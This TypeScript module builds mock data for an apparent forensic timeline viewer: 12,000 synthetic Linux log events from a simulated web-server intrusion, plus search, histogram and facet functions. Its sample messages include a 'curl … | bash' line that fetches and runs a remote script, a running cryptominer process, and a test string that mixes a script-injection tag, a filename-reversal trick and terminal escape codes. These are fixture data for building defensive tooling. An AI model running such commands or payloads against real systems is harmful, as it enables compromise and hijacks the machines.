import type { Facets, Histogram, TimelineEvent, TimelinePage } from '../src/api/types.ts';

const BEGIN = Date.parse('2026-11-20T22:00:00Z');
const KINDS: [string, string, string, string][] = [
  [
    'linux:syslog:line',
    'syslog',
    'Content Modification Time',
    'systemd[1]: Started Session 412 of user www-data.',
  ],
  ['linux:ssh:login', 'auth', 'Login Time', 'Accepted publickey for deploy from 203.0.113.7 port 50122 ssh2'],
  [
    'linux:journal:entry',
    'journal',
    'Content Modification Time',
    'nginx: 203.0.113.7 - - "GET /login.php HTTP/1.1" 200 612',
  ],
  ['fs:stat', 'file_stat', 'Metadata Modification Time', '/var/www/html/uploads/.cache/up.sh (4,120 bytes)'],
  ['linux:bash:history', 'bash_history', 'Last Run Time', 'curl -s http://198.51.100.23/up.sh | bash'],
  [
    'linux:process:running',
    'volatile',
    'Start Time',
    '/tmp/.x/kworkerds --donate-level 1 was running as www-data (pid 20311)',
  ],
  ['linux:dpkg:action', 'dpkg', 'Installation Time', 'netcat-openbsd 1.219-1 was installed'],
];
const PRECISIONS = ['second', 'microsecond', 'nanosecond', 'second', 'second', 'millisecond', 'second'];

function make(index: number): TimelineEvent {
  const kind = (index * 7 + (index >> 3)) % KINDS.length;
  const [data_type, parser, timestamp_desc, message] = KINDS[kind] ?? ['x:y:z', 'x', 'x', 'x'];
  const burst = index % 5 === 0 ? 9_000 : 31_000;
  const at = new Date(
    BEGIN + index * burst * 0.4 + (index % 977) * 1234 + (index > 9000 ? 14_400_000 : 0),
  ).toISOString();
  const hostile = index % 211 === 3;
  return {
    id: `e${index.toString(16).padStart(8, '0')}`,
    record: `r${index.toString(16)}`,
    timestamp:
      index % 1499 === 7 ? null : at.replace('Z', `${String((index * 7919) % 1_000_000).padStart(6, '0')}Z`),
    timestamp_desc,
    precision: PRECISIONS[kind],
    zone_source: kind === 0 ? 'assumed' : kind === 1 ? 'host' : 'utc',
    original: kind < 2 ? 'Nov 22 01:00:19' : undefined,
    inferred: kind === 0 && index % 3 === 0,
    data_type,
    parser,
    message: hostile ? 'sh: <script>alert(1)</script> invoice\u202egnp.exe \u001b[31mred\u0000' : message,
    host: 'web01',
    user: ['root', 'www-data', 'deploy', null][index % 4] ?? undefined,
    location: {
      evidence: index % 3 ? 'ev-0f3a9c' : 'ev-7b21',
      path: kind === 3 ? '/var/www/html/uploads/.cache/up.sh' : '/var/log/auth.log',
      volume: index % 3 ? undefined : 'p1',
      inode: 131_072 + index,
      offset: index * 118,
      record: `line ${index}`,
    },
    fields: {
      'process.name': ['sshd', 'nginx', 'bash', 'kworkerds'][index % 4] ?? 'sshd',
      'process.pid': 20_000 + (index % 900),
      'source.ip': index % 2 ? '203.0.113.7' : '198.51.100.23',
      'process.command_line': hostile ? 'A'.repeat(3000) : 'curl -s http://198.51.100.23/up.sh',
      'event.action': kind === 1 ? 'logon' : 'log',
      'file.hash.sha256': '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      tags: ['persistence', 'download'],
    },
    alerts: index % 401 === 5 ? ['a1'] : [],
  };
}

export const events = Array.from({ length: 12_000 }, (_, index) => make(index)).sort((a, b) =>
  (a.timestamp ?? '~') < (b.timestamp ?? '~') ? -1 : 1,
);

function matching(query: URLSearchParams): TimelineEvent[] {
  const from = query.get('from') ?? '';
  const to = query.get('to') ?? '~';
  const clauses = (query.get('q') ?? '').split(' AND ').filter(Boolean);
  return events.filter(
    (event) =>
      (event.timestamp === null ? !from : event.timestamp >= from && event.timestamp < to) &&
      clauses.every((one) => fits(event, one)),
  );
}

function fits(event: TimelineEvent, clause: string): boolean {
  if (clause.startsWith('NOT ')) {
    return !fits(event, clause.slice(4));
  }
  const match = /^([\w.]+):"?(.*?)"?$/.exec(clause);
  if (!match) {
    return JSON.stringify(event).toLowerCase().includes(clause.toLowerCase());
  }
  return String(value(event, match[1] ?? '')) === match[2];
}

function value(event: TimelineEvent, field: string): unknown {
  return (event as unknown as Record<string, unknown>)[field] ?? event.fields[field] ?? '';
}

export function page(query: URLSearchParams): TimelinePage {
  const found = matching(query);
  const sorted = query.get('sort') === 'desc' ? [...found].reverse() : found;
  const start = Number(query.get('cursor') ?? 0);
  const limit = Number(query.get('limit') ?? 100);
  return {
    total: found.length,
    events: sorted.slice(start, start + limit),
    next: start + limit < found.length ? String(start + limit) : undefined,
    sources: {
      read: ['ev-0f3a9c'],
      running: ['ev-7b21'],
      failed: [],
      notCollected: ['network connections of db02 (no agent)'],
    },
  };
}

export function histogram(query: URLSearchParams): Histogram {
  const dated = matching(query).filter(({ timestamp }) => timestamp !== null);
  if (dated.length === 0) {
    return { from: '', to: '', interval: 'PT1M', buckets: [], undated: 0 };
  }
  const times = dated.map(({ timestamp }) => Date.parse(timestamp ?? ''));
  const low = query.get('from') ? Date.parse(query.get('from') ?? '') : Math.min(...times);
  const high = query.get('to') ? Date.parse(query.get('to') ?? '') : Math.max(...times) + 1;
  const width = Math.max(1000, (high - low) / 120);
  const counts = new Array<number>(120).fill(0);
  for (const time of times) {
    const bucket = Math.min(119, Math.floor((time - low) / width));
    counts[bucket] = (counts[bucket] ?? 0) + 1;
  }
  return {
    from: new Date(low).toISOString(),
    to: new Date(high).toISOString(),
    interval: 'PT1M',
    buckets: counts.map((count, index) => ({ at: new Date(low + index * width).toISOString(), count })),
    undated: matching(query).length - dated.length,
  };
}

export function facets(query: URLSearchParams): Facets {
  const found = matching(query);
  const answer: Facets['facets'] = {};
  for (const field of (query.get('fields') ?? '').split(',')) {
    const counts = new Map<string, number>();
    for (const event of found) {
      const text = String(value(event, field));
      if (text) {
        counts.set(text, (counts.get(text) ?? 0) + 1);
      }
    }
    answer[field] = [...counts]
      .map(([text, count]) => ({ value: text, count }))
      .sort((a, b) => b.count - a.count);
  }
  return { facets: answer };
}
